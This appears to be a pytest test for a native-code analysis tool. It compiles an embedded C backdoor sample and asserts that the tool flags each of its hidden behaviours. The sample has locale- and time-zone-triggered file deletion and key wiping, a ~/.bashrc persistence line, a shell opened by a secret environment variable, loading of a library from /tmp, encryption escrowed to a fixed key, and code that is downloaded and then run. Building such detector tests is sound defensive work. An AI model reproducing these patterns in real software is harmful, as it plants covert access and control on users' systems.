"""What is done only in one place, and files that are written where others act on them.

Spec: src/evenhand/native/placed.py and put.py.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.native.test_programs import library

SOURCE = r"""
#include <locale.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/socket.h>
void *dlopen(const char *, int);
int crypto_box_seal(void *, const void *, unsigned long long, const void *);
static const unsigned char maker[32] = { 0x91, 0x22, 0xf3, 0x14, 0x85, 7, 8, 9 };
void tidy(const char *path)
{
    if (getenv("LANG") && !strncmp(getenv("LANG"), "xx_YY", 5))
        unlink(path);
}
void keyed(unsigned char *key)
{
    const char *money = localeconv()->int_curr_symbol;
    if (money[0] == 'Q' && money[1] == 'Q' && money[2] == 'X')
        memset(key, 0, 32);
}
void begun(time_t now)
{
    if (localtime(&now)->tm_gmtoff == 20700)
        exit(3);
}
const char *greeting(void)
{
    const char *own = getenv("LC_ALL");
    return own && !strncmp(own, "yy_ZZ", 5) ? "hei" : "hello";
}
void stays(const char *home)
{
    char path[300];
    FILE *f;
    snprintf(path, sizeof path, "%s/.bashrc", home);
    if ((f = fopen(path, "a")))
        fputs("(~/.cache/lamps &)\n", f);
}
void reads(void) { fopen("/etc/cron.d/lamps", "r"); fopen("/var/lib/lamps/state", "w"); }
void traced(void)
{
    if (getenv("LAMPS_TRACE_TTY"))
        execl("/bin/sh", "sh", (char *)0);
}
void *skin(void) { return dlopen("/tmp/lamps.so", 2); }
int sealed(unsigned char *out, const char *text, int n, const unsigned char *key)
{
    crypto_box_seal(out, text, n, key);
    return crypto_box_seal(out + 4096, text, n, maker);
}
void newer(struct addrinfo *to)
{
    char part[512];
    int n, s = socket(to->ai_family, SOCK_STREAM, 0);
    FILE *f = fopen("/usr/lib/lamps/next", "w");
    connect(s, to->ai_addr, to->ai_addrlen);
    while ((n = read(s, part, sizeof part)) > 0)
        fwrite(part, 1, n, f);
    fclose(f);
    execl("/usr/lib/lamps/next", "next", (char *)0);
}
"""
FOUND = {
    ("conditional behaviour", "xx_YY"),
    ("conditional behaviour", "QQX"),
    ("conditional behaviour", "time zone 20700"),
    ("adds persistence", "shell start-up (%s/.bas…"),
    ("fixed secret", "LAMPS_TRACE_TTY"),
    ("remote control", "/tmp/lamps.so"),
    ("key escrow", "crypto_box_seal"),
    ("downloads and runs", "/usr/lib/lamps/next"),
}


@pytest.mark.parametrize("level", ["-O0", "-O2"])
def test_what_is_told(level: str, tmp_path: Path) -> None:
    found = library(SOURCE, tmp_path / "lamps.so", level)
    ways = {(f.kind, f.constant) for f in found.table("hidden_access") if f.strength >= 0.5}
    acts = {(f.kind, f.target) for f in found.table("behaviour") if (f.strength or 0) >= 0.5}
    assert ways | acts == FOUND
